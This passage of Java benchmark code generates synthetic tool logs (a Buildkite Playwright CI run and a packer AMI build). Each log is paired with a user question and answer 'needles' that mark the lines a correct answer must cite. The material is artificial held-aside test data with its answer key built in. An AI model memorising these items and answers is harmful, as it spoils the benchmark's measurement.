package dev.headroom.benchmarks.needles;

import static dev.headroom.benchmarks.needles.Gen.fmt;
import static dev.headroom.benchmarks.needles.Inputs.lpad;
import static dev.headroom.benchmarks.needles.Inputs.only;
import static dev.headroom.benchmarks.needles.Inputs.pad;
import static dev.headroom.benchmarks.needles.Inputs.requireCount;
import static dev.headroom.benchmarks.needles.Inputs.requireLines;
import static dev.headroom.benchmarks.needles.Inputs.requireSize;
import static dev.headroom.benchmarks.needles.Inputs.uuid;
import static dev.headroom.benchmarks.needles.JsonTree.arr;
import static dev.headroom.benchmarks.needles.JsonTree.obj;

import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

/**
 * The twenty-third held-aside batch ({@code fresh22_*}), written on 2026-12-08 (session 12), with needle rules written
 * together with each generator, before anything was run; its author never ran it through the compressor nor looked at
 * a compressed output of it. Tool outputs none of the other cases has, from networking, the operating system, frontend,
 * Python, Go and Rust tooling, security and CI: a Buildkite job log ({@code --timestamp-lines}) of a sharded Playwright
 * run, a {@code packer build -timestamp-ui} of two AMIs, {@code pip-audit -f json} piped through jq, {@code cargo clippy
 * --message-format=json} over a workspace, osqueryd's differential results log, {@code pnpm outdated -r}, DNS traffic as
 * {@code tshark -T fields} CSV, {@code go list -m -u all}, {@code zfs diff -F} between a snapshot and now, {@code ausearch
 * -i} over a watch key, {@code pnpm -r run build} over Vite apps and {@code ethtool -S} of a mlx5 NIC. Never tuned on:
 * reported as their own set {@code fresh-22}, refused by {@code --case}. Written at the same time as the {@code fresh21}
 * batch by another author, who chose from other families of tools.
 */
final class FreshCases22 {

    private FreshCases22() {}

    static List<NeedleCase> all() {
        return List.of(buildkiteLog(), packerBuild(), pipAudit(), clippyJson(), osqueryResults(), pnpmOutdated(), tsharkDns(), goListModules(),
                zfsDiff(), ausearch(), viteBuild(), ethtoolStats());
    }

    private static <T> void shuffle(Gen g, List<T> list) {
        for (int i = list.size() - 1; i > 0; i--) {
            int j = g.nextInt(i + 1);
            T t = list.get(i);
            list.set(i, list.get(j));
            list.set(j, t);
        }
    }

    /** A fake clock moved forward by random steps of at most a given number of milliseconds. */
    private static final class Clock {
        private final Gen g;
        private LocalDateTime now;

        Clock(Gen g, LocalDateTime start) {
            this.g = g;
            this.now = start;
        }

        LocalDateTime step(int maxMillis) {
            now = now.plusNanos(g.nextInt(maxMillis + 1) * 1_000_000L + g.nextInt(1000) * 1000L);
            return now;
        }

        LocalDateTime now() {
            return now;
        }
    }

    private static String duration(Gen g, int minMs, int maxMs) {
        int ms = g.between(minMs, maxMs);
        return ms < 1000 ? ms + "ms" : fmt("%.1fs", ms / 1000.0);
    }

    // ---------------------------------------------------------------- Buildkite job log (Playwright shard)

    private static final DateTimeFormatter BK_TIME = DateTimeFormatter.ofPattern("'['yyyy-MM-dd'T'HH:mm:ss'Z] '", Locale.ROOT);

    private static String bk(Gen g, Clock c, int step, String line) {
        String l = BK_TIME.format(c.step(step)) + line;
        g.add(l);
        return l;
    }

    private record Spec(String project, String file, int line, String describe, String title) {
        String id() {
            return "[" + project + "] › " + file + ":" + line + ":" + (line > 99 ? 5 : 7) + " › " + describe + " › " + title;
        }
    }

    /**
     * A Buildkite job log (agent started with --timestamp-lines, fetched with bk job log) of shard 2/4 of a storefront's
     * Playwright suite on a pull request: environment hook, checkout, a BuildKit build of the e2e image (pnpm progress
     * lines), docker compose starting postgres, redis, stripe-mock and the web app, then 212 tests with the list reporter
     * (chromium and webkit), three flaky tests that failed once on other errors and passed on retry, and one test, "coupon
     * › stacks two percentage coupons", that failed twice: the order total shows €79.20 where €71.28 was expected. The
     * question asks which test failed and why: the entry under "1 failed" in the summary, one of the two "Timed out ...
     * toHaveText" error lines, one of the two "Received string" lines and one of the two "at" lines naming the spec line.
     */
    static NeedleCase buildkiteLog() {
        Gen g = new Gen(250_001);
        Clock c = new Clock(g, LocalDateTime.of(2026, 12, 8, 10, 14, 3));
        String dir = "/var/lib/buildkite-agent/builds/ip-10-0-4-17-2/acme/storefront";
        String project = "buildkite0193f2a15c7e4b08";
        String compose = "docker compose -f docker-compose.ci.yml -p " + project;
        bk(g, c, 0, "~~~ Running global environment hook");
        bk(g, c, 30, "$ /etc/buildkite-agent/hooks/environment");
        bk(g, c, 900, "Fetched 3 secrets from s3://acme-ci-secrets/storefront/env");
        bk(g, c, 50, "~~~ Preparing working directory");
        bk(g, c, 10, "$ cd " + dir);
        bk(g, c, 10, "$ git remote set-url origin git@github.com:acme/storefront.git");
        bk(g, c, 40, "$ git clean -ffxdq");
        bk(g, c, 40, "$ git fetch -v --prune -- origin refs/pull/2291/head");
        bk(g, c, 1500, "From github.com:acme/storefront");
        bk(g, c, 5, " * branch                  refs/pull/2291/head -> FETCH_HEAD");
        String sha = g.hex(40);
        bk(g, c, 40, "$ git checkout -f " + sha);
        bk(g, c, 300, "HEAD is now at " + sha.substring(0, 7) + " Stack percentage coupons on the order total");
        bk(g, c, 20, "# Using default checkout hook");
        bk(g, c, 30, "~~~ :docker: Building services playwright");
        bk(g, c, 30, "$ " + compose + " build --pull playwright");
        double bt = 0;
        bk(g, c, 200, "#0 building with \"default\" instance using docker driver");
        bk(g, c, 5, "");
        bk(g, c, 5, "#1 [playwright internal] load build definition from Dockerfile.e2e");
        bk(g, c, 5, "#1 transferring dockerfile: 1.38kB done");
        bk(g, c, 5, "#1 DONE 0.0s");
        bk(g, c, 5, "");
        bk(g, c, 900, "#2 [playwright internal] load metadata for mcr.microsoft.com/playwright:v1.49.1-noble");
        bk(g, c, 5, "#2 DONE 1.1s");
        bk(g, c, 5, "");
        bk(g, c, 5, "#3 [playwright internal] load .dockerignore");
        bk(g, c, 5, "#3 transferring context: 412B done");
        bk(g, c, 5, "#3 DONE 0.0s");
        bk(g, c, 5, "");
        bk(g, c, 5, "#4 [playwright 1/6] FROM mcr.microsoft.com/playwright:v1.49.1-noble@sha256:" + g.hex(64));
        bk(g, c, 5, "#4 CACHED");
        bk(g, c, 5, "");
        bk(g, c, 5, "#5 [playwright internal] load build context");
        bk(g, c, 700, "#5 transferring context: 18.42MB 0.7s done");
        bk(g, c, 5, "#5 DONE 0.8s");
        bk(g, c, 5, "");
        bk(g, c, 5, "#6 [playwright 2/6] WORKDIR /work");
        bk(g, c, 5, "#6 CACHED");
        bk(g, c, 5, "");
        bk(g, c, 5, "#7 [playwright 3/6] COPY package.json pnpm-lock.yaml pnpm-workspace.yaml .npmrc ./");
        bk(g, c, 100, "#7 DONE 0.1s");
        bk(g, c, 5, "");
        bk(g, c, 5, "#8 [playwright 4/6] RUN corepack enable && pnpm fetch --frozen-lockfile");
        int total = 1_211;
        int resolved = 0;
        int downloaded = 0;
        bt = 0.4;
        bk(g, c, 400, fmt("#8 %.3f Packages: +%d", bt, total));
        while (resolved < total) {
            resolved = Math.min(total, resolved + g.between(8, 40));
            downloaded = Math.min(resolved, downloaded + g.between(6, 40));
            bt += 0.1 + g.nextDouble() * 0.5;
            bk(g, c, 600, fmt("#8 %.3f Progress: resolved %d, reused 0, downloaded %d, added 0", bt, resolved, downloaded));
        }
        bt += 0.2;
        bk(g, c, 300, fmt("#8 %.3f Progress: resolved %d, reused 0, downloaded %d, added 0, done", bt, total, total));
        bk(g, c, 300, fmt("#8 DONE %.1fs", bt + 0.3));
        bk(g, c, 5, "");
        bk(g, c, 5, "#9 [playwright 5/6] COPY . .");
        bk(g, c, 900, "#9 DONE 0.9s");
        bk(g, c, 5, "");
        bk(g, c, 5, "#10 [playwright 6/6] RUN pnpm install --offline --frozen-lockfile");
        bt = 0.6;
        bk(g, c, 600, fmt("#10 %.3f Scope: all 9 workspace projects", bt));
        bk(g, c, 300, fmt("#10 %.3f Lockfile is up to date, resolution step is skipped", bt += 0.2));
        int added = 0;
        while (added < total) {
            added = Math.min(total, added + g.between(20, 90));
            bk(g, c, 500, fmt("#10 %.3f Progress: resolved %d, reused %d, downloaded 0, added %d", bt += 0.1 + g.nextDouble() * 0.4, total, total,
                    added));
        }
        bk(g, c, 300, fmt("#10 %.3f Progress: resolved %d, reused %d, downloaded 0, added %d, done", bt += 0.2, total, total, total));
        bk(g, c, 300, fmt("#10 %.3f . prepare$ husky || true", bt += 0.3));
        bk(g, c, 300, fmt("#10 %.3f . prepare: HUSKY=0 skip install", bt += 0.1));
        bk(g, c, 300, fmt("#10 %.3f . prepare: Done", bt += 0.1));
        bk(g, c, 300, fmt("#10 %.3f Done in %.1fs", bt += 0.1, bt));
        bk(g, c, 300, fmt("#10 DONE %.1fs", bt + 0.4));
        bk(g, c, 5, "");
        bk(g, c, 5, "#11 [playwright] exporting to image");
        bk(g, c, 5, "#11 exporting layers");
        bk(g, c, 3000, "#11 exporting layers 6.1s done");
        bk(g, c, 5, "#11 writing image sha256:" + g.hex(64) + " done");
        bk(g, c, 5, "#11 naming to docker.io/library/" + project + "-playwright done");
        bk(g, c, 5, "#11 DONE 6.2s");
        bk(g, c, 40, "~~~ :docker: Starting dependencies");
        bk(g, c, 40, "$ " + compose + " up -d --wait postgres redis stripe-mock web");
        String[] services = {"postgres", "redis", "stripe-mock", "web"};
        for (String phase : new String[] {"Creating", "Created", "Starting", "Started", "Waiting", "Healthy"}) {
            for (String s : services) {
                bk(g, c, phase.equals("Healthy") ? 4000 : 300, " Container " + project + "-" + s + "-1  " + phase);
            }
        }
        bk(g, c, 40, "+++ :playwright: e2e (shard 2/4)");
        bk(g, c, 40, "$ " + compose + " run --rm playwright pnpm exec playwright test --shard=2/4 --reporter=list");
        bk(g, c, 3000, "");
        bk(g, c, 5, "Running 212 tests using 4 workers, shard 2 of 4");
        bk(g, c, 5, "");
        String[][] files = {
            {"tests/account/login.spec.ts", "login"}, {"tests/account/signup.spec.ts", "signup"}, {"tests/account/addresses.spec.ts", "addresses"},
            {"tests/catalog/listing.spec.ts", "listing"}, {"tests/catalog/product.spec.ts", "product page"}, {"tests/catalog/filters.spec.ts", "filters"},
            {"tests/cart/cart.spec.ts", "cart"}, {"tests/checkout/coupon.spec.ts", "coupon"}, {"tests/checkout/payment.spec.ts", "payment"},
            {"tests/checkout/shipping.spec.ts", "shipping"}, {"tests/search/autocomplete.spec.ts", "autocomplete"},
            {"tests/orders/history.spec.ts", "order history"}};
        String[] verbs = {"shows", "hides", "updates", "validates", "persists", "renders", "sorts", "filters", "rejects", "accepts", "keeps",
            "clears", "restores", "paginates", "links"};
        String[] objects = {"the empty state", "an error on bad input", "the price after a quantity change", "the saved address", "items by price",
            "out-of-stock variants", "the mini cart badge", "the breadcrumb", "a removed item", "the delivery estimate", "the VAT line",
            "an expired card", "the guest email", "the size picker", "the last viewed products", "the loyalty points", "the order number",
            "the free shipping banner", "a single percentage coupon", "an expired coupon", "the gift message", "the currency switch"};
        List<Spec> specs = new ArrayList<>();
        Set<String> seen = new LinkedHashSet<>();
        while (specs.size() < 211) {
            String[] f = g.pick(files);
            int line = g.between(8, 240);
            Spec s = new Spec(g.chance(0.6) ? "chromium" : "webkit", f[0], line, f[1], g.pick(verbs) + " " + g.pick(objects));
            if (seen.add(s.file() + ":" + line) && !(f[0].contains("coupon") && line == 58)) {
                specs.add(s);
            }
        }
        Spec failing = new Spec("chromium", "tests/checkout/coupon.spec.ts", 58, "coupon", "stacks two percentage coupons");
        specs.add(g.between(80, 130), failing);
        List<Spec> flaky = new ArrayList<>();
        while (flaky.size() < 3) {
            Spec s = g.pick(specs);
            if (s != failing && !flaky.contains(s)) {
                flaky.add(s);
            }
        }
        int n = 0;
        List<Object[]> retries = new ArrayList<>();
        for (Spec s : specs) {
            boolean bad = s == failing || flaky.contains(s);
            n++;
            bk(g, c, 2500, fmt("  %s %4d %s (%s)", bad ? "✘" : "✓", n, s.id(), bad ? duration(g, 9_000, 12_500) : duration(g, 400, 9_000)));
            if (bad) {
                retries.add(new Object[] {s, g.between(2, 7)});
            }
            for (int i = retries.size() - 1; i >= 0; i--) {
                Object[] r = retries.get(i);
                r[1] = (Integer) r[1] - 1;
                if ((Integer) r[1] == 0) {
                    Spec rs = (Spec) r[0];
                    n++;
                    bk(g, c, 2500, fmt("  %s %4d %s (retry #1) (%s)", rs == failing ? "✘" : "✓", n, rs.id(),
                            rs == failing ? duration(g, 10_000, 12_500) : duration(g, 900, 6_000)));
                    retries.remove(i);
                }
            }
        }
        for (Object[] r : retries) {
            Spec rs = (Spec) r[0];
            n++;
            bk(g, c, 2500, fmt("  %s %4d %s (retry #1) (%s)", rs == failing ? "✘" : "✓", n, rs.id(), duration(g, 900, 12_000)));
        }
        bk(g, c, 300, "");
        bk(g, c, 5, "");
        String dashes = "─".repeat(40);
        String shot = "test-results/checkout-coupon-coupon-stacks-two-percentage-coupons-chromium";
        List<String> timedOut = new ArrayList<>();
        List<String> received = new ArrayList<>();
        List<String> at = new ArrayList<>();
        bk(g, c, 5, "  1) " + failing.id() + " " + dashes);
        for (int attempt = 0; attempt < 2; attempt++) {
            if (attempt == 1) {
                bk(g, c, 5, "    Retry #1 " + "─".repeat(60));
            }
            bk(g, c, 5, "");
            timedOut.add(bk(g, c, 5, "    Error: Timed out 10000ms waiting for expect(locator).toHaveText(expected)"));
            bk(g, c, 5, "");
            bk(g, c, 5, "    Locator: getByTestId('order-total')");
            bk(g, c, 5, "    Expected string: \"€71.28\"");
            received.add(bk(g, c, 5, "    Received string: \"€79.20\""));
            bk(g, c, 5, "    Call log:");
            bk(g, c, 5, "      - expect.toHaveText with timeout 10000ms");
            bk(g, c, 5, "      - waiting for getByTestId('order-total')");
            for (int i = 0; i < 9; i++) {
                bk(g, c, 5, "      -   locator resolved to <span data-testid=\"order-total\" class=\"font-semibold tabular-nums\">€79.20</span>");
                bk(g, c, 5, "      -   unexpected value \"€79.20\"");
            }
            bk(g, c, 5, "");
            bk(g, c, 5, "");
            bk(g, c, 5, "      68 |     await page.getByPlaceholder('Coupon code').fill('WINTER12');");
            bk(g, c, 5, "      69 |     await page.getByRole('button', { name: 'Apply' }).click();");
            bk(g, c, 5, "      70 |     await expect(page.getByText('WINTER12 applied')).toBeVisible();");
            bk(g, c, 5, "    > 71 |     await expect(page.getByTestId('order-total')).toHaveText('€71.28');");
            bk(g, c, 5, "         |                                                   ^");
            bk(g, c, 5, "      72 |   });");
            bk(g, c, 5, "      73 |");
            bk(g, c, 5, "      74 |   test('rejects an expired coupon', async ({ page }) => {");
            bk(g, c, 5, "");
            at.add(bk(g, c, 5, "        at /work/tests/checkout/coupon.spec.ts:71:51"));
            bk(g, c, 5, "");
            bk(g, c, 5, "    attachment #1: screenshot (image/png) " + "─".repeat(50));
            bk(g, c, 5, "    " + shot + (attempt == 0 ? "" : "-retry1") + "/test-failed-1.png");
            bk(g, c, 5, "    " + "─".repeat(88));
            bk(g, c, 5, "");
            bk(g, c, 5, "    Error Context: " + shot + (attempt == 0 ? "" : "-retry1") + "/error-context.md");
            bk(g, c, 5, "");
        }
        String[][] flakyErrors = {
            {"    Error: page.goto: net::ERR_CONNECTION_RESET at http://web:3000/", "      - navigating to \"http://web:3000/\", waiting until \"load\""},
            {"    Error: locator.click: Test timeout of 30000ms exceeded.", "      - waiting for getByRole('button', { name: 'Continue' })"},
            {"    Error: apiRequestContext.post: socket hang up", "      - → POST http://web:3000/api/test/seed"}};
        for (int i = 0; i < 3; i++) {
            Spec s = flaky.get(i);
            bk(g, c, 5, "  " + (i + 2) + ") " + s.id() + " " + dashes);
            bk(g, c, 5, "");
            bk(g, c, 5, flakyErrors[i][0]);
            bk(g, c, 5, "    Call log:");
            bk(g, c, 5, flakyErrors[i][1]);
            bk(g, c, 5, "");
            bk(g, c, 5, "        at /work/" + s.file() + ":" + (s.line() + g.between(2, 9)) + ":" + g.between(12, 30));
            bk(g, c, 5, "");
        }
        bk(g, c, 5, "  1 failed");
        String failedEntry = bk(g, c, 5, "    " + failing.id() + " " + dashes);
        bk(g, c, 5, "  3 flaky");
        for (Spec s : flaky) {
            bk(g, c, 5, "    " + s.id() + " " + dashes);
        }
        bk(g, c, 5, "  208 passed (6.4m)");
        bk(g, c, 300, "^^^ +++");
        bk(g, c, 5, "🚨 Error: The command exited with status 1");
        bk(g, c, 50, "~~~ Running plugin docker-compose#v5.4.1 pre-exit hook");
        bk(g, c, 10, "$ " + compose + " down --remove-orphans --volumes");
        for (String phase : new String[] {"Stopping", "Stopped", "Removing", "Removed"}) {
            for (String s : services) {
                bk(g, c, 900, " Container " + project + "-" + s + "-1  " + phase);
            }
        }
        bk(g, c, 10, " Network " + project + "_default  Removing");
        bk(g, c, 200, " Network " + project + "_default  Removed");
        bk(g, c, 50, "~~~ Uploading artifacts");
        bk(g, c, 50, "2026-12-08 10:22:51 INFO   Found 6 files that match \"test-results/**/*\"");
        for (String f : new String[] {shot + "/test-failed-1.png", shot + "/error-context.md", shot + "/trace.zip", shot + "-retry1/test-failed-1.png",
            shot + "-retry1/error-context.md", shot + "-retry1/trace.zip"}) {
            bk(g, c, 400, "2026-12-08 10:22:52 INFO   Uploading artifact " + uuid(g) + " " + f + " (" + g.between(3, 900) + " KiB)");
        }
        bk(g, c, 800, "2026-12-08 10:22:53 INFO   Artifact uploads completed successfully");
        String text = g.text();
        requireLines(g, 300, 1200);
        requireCount(text, "stacks two percentage coupons", 4);
        requireCount(text, "toHaveText(expected)", 2);
        return NeedleCase.named("fresh22_buildkite_log", "log", "buildkite-log")
                .shell("bk job log 0193f2a1-5c7e-4b08-9d1e-6a2d8c4b7e11 -p acme/storefront -b 4817")
                .question("The e2e shard 2 job on my PR #2291 is red on Buildkite. Which Playwright test actually failed (not the flaky ones), and"
                        + " what did it get wrong?")
                .heldAside()
                .build(text, List.of(Needle.exact(failedEntry), Needle.anyOf(timedOut), Needle.anyOf(received), Needle.anyOf(at)));
    }

    // ---------------------------------------------------------------- packer build -timestamp-ui

    private static final DateTimeFormatter PACKER_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss'Z: '", Locale.ROOT);

    /**
     * packer build -timestamp-ui of a nightly node-image template with two amazon-ebs builds running in parallel, their
     * lines interleaved: cpu and gpu EKS node AMIs from the same Ubuntu base, each running a base script (apt upgrade with
     * hundreds of Get/Unpacking/Setting up lines, debconf warnings on stderr), the cpu build then a containerd script, the
     * gpu build then scripts/20-nvidia.sh, whose apt-get install fails: the pinned driver version
     * 550.127.05-0ubuntu0.22.04.1 of nvidia-driver-550-server is no longer in the archive, exit status 100. The cpu AMI is
     * created. The question asks which build failed, in which step and why, and the id of the AMI that was made: the E:
     * line of the missing version, the "Provisioning with shell script: scripts/20-nvidia.sh" line, the "Build
     * 'amazon-ebs.gpu' errored" line and the new AMI id.
     */
    static NeedleCase packerBuild() {
        Gen g = new Gen(250_002);
        Clock c = new Clock(g, LocalDateTime.of(2026, 12, 8, 2, 0, 4));
        String[] builds = {"amazon-ebs.cpu", "amazon-ebs.gpu"};
        List<List<String>> streams = List.of(new ArrayList<>(), new ArrayList<>());
        String baseAmi = "ami-0" + g.hex(16);
        String newAmi = "ami-0" + g.hex(16);
        String missing = null;
        String[] libs = {"libssl3", "openssl", "libc6", "libc-bin", "locales", "libsystemd0", "systemd", "systemd-sysv", "udev", "libudev1",
            "linux-aws", "linux-image-aws", "linux-headers-aws", "linux-modules-6.8.0-1019-aws", "linux-image-6.8.0-1019-aws",
            "linux-aws-6.8-headers-6.8.0-1019", "libpython3.10", "python3.10", "python3.10-minimal", "libpython3.10-minimal",
            "libpython3.10-stdlib", "curl", "libcurl4", "libcurl3-gnutls", "git", "git-man", "vim", "vim-common", "vim-runtime", "vim-tiny",
            "xxd", "sudo", "tzdata", "ca-certificates", "libnss3", "libgnutls30", "libxml2", "libexpat1", "libsqlite3-0", "libpam0g",
            "libpam-modules", "libpam-modules-bin", "libpam-runtime", "apparmor", "libapparmor1", "snapd", "cloud-init", "ubuntu-advantage-tools",
            "ubuntu-pro-client", "ubuntu-pro-client-l10n", "libldap-2.5-0", "libldap-common", "libkrb5-3", "libgssapi-krb5-2", "libk5crypto3",
            "libkrb5support0", "libglib2.0-0", "libglib2.0-data", "libnftables1", "nftables", "iptables", "libip4tc2", "libip6tc2", "libxtables12",
            "conntrack", "ethtool", "jq", "libjq1", "libonig5", "nfs-common", "libnfsidmap1", "rpcbind", "keyutils", "amazon-ec2-utils",
            "ec2-instance-connect", "chrony", "logrotate", "rsyslog", "openssh-client", "openssh-server", "openssh-sftp-server", "bash",
            "coreutils", "dpkg", "apt", "apt-utils", "libapt-pkg6.0", "gpgv", "gnupg", "dirmngr", "gpg-agent", "libgcrypt20", "libzstd1",
            "liblzma5", "xz-utils", "libarchive13", "libtasn1-6", "libfreetype6", "libtiff5", "libwebp7", "libpng16-16", "libjpeg-turbo8"};
        String mirror = "http://us-east-1.ec2.archive.ubuntu.com/ubuntu";
        for (int b = 0; b < 2; b++) {
            List<String> s = streams.get(b);
            String p = "==> " + builds[b] + ": ";
            String o = "    " + builds[b] + ": ";
            String name = b == 0 ? "eks-cpu-node-1.31-20261208-0200" : "eks-gpu-node-1.31-20261208-0200";
            s.add(p + "Prevalidating any provided VPC information");
            s.add(p + "Prevalidating AMI Name: " + name);
            s.add(o + "Found Image ID: " + baseAmi);
            s.add(p + "Creating temporary keypair: packer_6755" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(12));
            s.add(p + "Creating temporary security group for this instance: packer_6755" + g.hex(4) + "-" + g.hex(4));
            s.add(p + "Authorizing access to port 22 from [10.40.0.0/16] in the temporary security groups...");
            s.add(p + "Launching a source AWS instance...");
            String inst = "i-0" + g.hex(16);
            s.add(o + "Instance ID: " + inst);
            s.add(p + "Waiting for instance (" + inst + ") to become ready...");
            s.add(p + "Using SSH communicator to connect: 10.40." + g.between(1, 30) + "." + g.between(4, 250));
            s.add(p + "Waiting for SSH to become available...");
            s.add(p + "Connected to SSH!");
            s.add(p + "Uploading files/ => /tmp/files");
            s.add(p + "Provisioning with shell script: scripts/00-base.sh");
            s.add(o + "Hit:1 " + mirror + " jammy InRelease");
            int k = 2;
            for (String suite : new String[] {"jammy-updates", "jammy-backports"}) {
                s.add(o + "Get:" + k++ + " " + mirror + " " + suite + " InRelease [128 kB]");
            }
            s.add(o + "Get:" + k++ + " http://security.ubuntu.com/ubuntu jammy-security InRelease [129 kB]");
            for (String comp : new String[] {"main", "restricted", "universe", "multiverse"}) {
                for (String suite : new String[] {"jammy-updates", "jammy-security"}) {
                    s.add(o + "Get:" + k++ + " " + mirror + " " + suite + "/" + comp + " amd64 Packages [" + fmt("%,d", g.between(40, 3_200)) + " kB]");
                    s.add(o + "Get:" + k++ + " " + mirror + " " + suite + "/" + comp + " Translation-en [" + fmt("%,d", g.between(10, 600)) + " kB]");
                }
            }
            s.add(o + "Fetched " + g.between(18, 34) + ".1 MB in " + g.between(3, 9) + "s (" + g.between(3, 8) + ",412 kB/s)");
            s.add(o + "Reading package lists...");
            s.add(o + "Reading package lists...");
            s.add(o + "Building dependency tree...");
            s.add(o + "Reading state information...");
            s.add(o + "Calculating upgrade...");
            s.add(o + "The following packages will be upgraded:");
            List<String> up = new ArrayList<>(List.of(libs));
            shuffle(g, up);
            up = up.subList(0, g.between(70, 90));
            for (int i = 0; i < up.size(); i += 6) {
                s.add(o + "  " + String.join(" ", up.subList(i, Math.min(up.size(), i + 6))));
            }
            s.add(o + up.size() + " upgraded, 0 newly installed, 0 to remove and 0 not upgraded.");
            s.add(o + "Need to get " + g.between(180, 260) + " MB of archives.");
            s.add(o + "After this operation, " + g.between(2, 40) + ".5 MB of additional disk space will be used.");
            for (String pkg : up) {
                s.add(o + "Get:" + k++ + " " + mirror + " jammy-updates/main amd64 " + pkg + " amd64 " + g.between(1, 9) + "." + g.between(0, 40) + "-"
                        + g.between(1, 9) + "ubuntu" + g.between(0, 3) + "." + g.between(1, 12) + " [" + g.between(12, 9_000) + " kB]");
            }
            s.add(p + "debconf: unable to initialize frontend: Dialog");
            s.add(p + "debconf: (Dialog frontend will not work on a dumb terminal, an emacs shell buffer, or without a controlling terminal.)");
            s.add(p + "debconf: falling back to frontend: Readline");
            s.add(o + "Fetched " + g.between(180, 260) + " MB in " + g.between(6, 20) + "s (" + g.between(11, 30) + ".2 MB/s)");
            for (String pkg : up) {
                s.add(o + "(Reading database ... " + g.between(60_000, 80_000) + " files and directories currently installed.)");
                s.add(o + "Preparing to unpack .../" + pkg + "_" + g.between(1, 9) + "." + g.between(0, 40) + "_amd64.deb ...");
                s.add(o + "Unpacking " + pkg + ":amd64 (" + g.between(1, 9) + "." + g.between(0, 40) + ") over (" + g.between(1, 9) + "."
                        + g.between(0, 40) + ") ...");
            }
            for (String pkg : up) {
                s.add(o + "Setting up " + pkg + ":amd64 (" + g.between(1, 9) + "." + g.between(0, 40) + ") ...");
            }
            s.add(o + "Processing triggers for man-db (2.10.2-1) ...");
            s.add(o + "Processing triggers for libc-bin (2.35-0ubuntu3.8) ...");
            s.add(p + "Provisioning with shell script: scripts/10-containerd.sh");
            s.add(o + "+ install -m 0644 /tmp/files/containerd-config.toml /etc/containerd/config.toml");
            s.add(o + "+ systemctl enable containerd");
            s.add(p + "Created symlink /etc/systemd/system/multi-user.target.wants/containerd.service → /lib/systemd/system/containerd.service.");
            s.add(o + "+ install -m 0755 /tmp/files/bootstrap.sh /etc/eks/bootstrap.sh");
            if (b == 1) {
                s.add(p + "Provisioning with shell script: scripts/20-nvidia.sh");
                s.add(o + "+ apt-get install -y --no-install-recommends nvidia-driver-550-server=550.127.05-0ubuntu0.22.04.1"
                        + " nvidia-utils-550-server=550.127.05-0ubuntu0.22.04.1 nvidia-container-toolkit");
                s.add(o + "Reading package lists...");
                s.add(o + "Building dependency tree...");
                s.add(o + "Reading state information...");
                missing = p + "E: Version '550.127.05-0ubuntu0.22.04.1' for 'nvidia-driver-550-server' was not found";
                s.add(missing);
                s.add(p + "Provisioning step had errors: Running the cleanup provisioner, if present...");
                s.add(p + "Terminating the source AWS instance...");
                s.add(p + "Cleaning up any extra volumes...");
                s.add(p + "No volumes to clean up, skipping");
                s.add(p + "Deleting temporary security group...");
                s.add(p + "Deleting temporary keypair...");
            } else {
                s.add(o + "+ systemctl disable --now unattended-upgrades.service");
                s.add(p + "Removed /etc/systemd/system/multi-user.target.wants/unattended-upgrades.service.");
                s.add(p + "Stopping the source instance...");
                s.add(o + "Stopping instance");
                s.add(p + "Waiting for the instance to stop...");
                s.add(p + "Creating AMI " + name + " from instance " + inst);
                s.add(o + "AMI: " + newAmi);
                s.add(p + "Waiting for AMI to become ready...");
                s.add(p + "Skipping Enable AMI deprecation...");
                s.add(p + "Adding tags to AMI (" + newAmi + ")...");
                s.add(p + "Tagging snapshot: snap-0" + g.hex(16));
                s.add(p + "Creating AMI tags");
                s.add(o + "Adding tag: \"kubernetes-version\": \"1.31\"");
                s.add(o + "Adding tag: \"build-date\": \"20261208\"");
                s.add(o + "Adding tag: \"source-ami\": \"" + baseAmi + "\"");
                s.add(p + "Creating snapshot tags");
                s.add(p + "Terminating the source AWS instance...");
                s.add(p + "Cleaning up any extra volumes...");
                s.add(p + "No volumes to clean up, skipping");
                s.add(p + "Deleting temporary security group...");
                s.add(p + "Deleting temporary keypair...");
            }
        }
        g.add(PACKER_TIME.format(c.now()) + "amazon-ebs.cpu: output will be in this color.");
        g.add(PACKER_TIME.format(c.now()) + "amazon-ebs.gpu: output will be in this color.");
        g.add(PACKER_TIME.format(c.now()));
        int[] at = {0, 0};
        while (at[0] < streams.get(0).size() || at[1] < streams.get(1).size()) {
            int b = at[0] >= streams.get(0).size() ? 1 : at[1] >= streams.get(1).size() ? 0 : g.nextInt(2);
            int burst = g.between(1, 12);
            for (int i = 0; i < burst && at[b] < streams.get(b).size(); i++) {
                String line = streams.get(b).get(at[b]++);
                g.add(PACKER_TIME.format(c.step(line.contains("Waiting") ? 40_000 : 900)) + line);
            }
        }
        String errored = PACKER_TIME.format(c.step(2000)) + "Build 'amazon-ebs.gpu' errored after 14 minutes 51 seconds: Script exited with"
                + " non-zero exit status: 100. Allowed exit codes are: [0]";
        g.add(errored);
        g.add(PACKER_TIME.format(c.step(60_000)) + "Build 'amazon-ebs.cpu' finished after 21 minutes 8 seconds.");
        g.add(PACKER_TIME.format(c.now()));
        g.add(PACKER_TIME.format(c.now()) + "==> Wait completed after 21 minutes 8 seconds");
        g.add(PACKER_TIME.format(c.now()));
        g.add(PACKER_TIME.format(c.now()) + "==> Some builds didn't complete successfully and had errors:");
        g.add(PACKER_TIME.format(c.now()) + "--> amazon-ebs.gpu: Script exited with non-zero exit status: 100. Allowed exit codes are: [0]");
        g.add(PACKER_TIME.format(c.now()));
        g.add(PACKER_TIME.format(c.now()) + "==> Builds finished. The artifacts of successful builds are:");
        g.add(PACKER_TIME.format(c.now()) + "--> amazon-ebs.cpu: AMIs were created:");
        g.add(PACKER_TIME.format(c.now()) + "us-east-1: " + newAmi);
        g.add(PACKER_TIME.format(c.now()));
        String text = g.text();
        requireLines(g, 800, 2500);
        requireCount(text, "was not found", 1);
        requireCount(text, newAmi, 3);
        return NeedleCase.named("fresh22_packer_build", "log", "packer-build")
                .shell("packer build -timestamp-ui -var-file=nightly.pkrvars.hcl eks-node.pkr.hcl")
                .question("Last night's AMI bake exited 1. Which of the two builds failed, in which provisioning step and why? And what's the AMI id"
                        + " of the one that succeeded?")
                .heldAside()
                .build(text, List.of(Needle.exact(only(text, missing)), Needle.exact(only(text, "scripts/20-nvidia.sh")), Needle.exact(errored),
                        Needle.contains(newAmi)));
    }

    // ---------------------------------------------------------------- pip-audit -f json | jq .

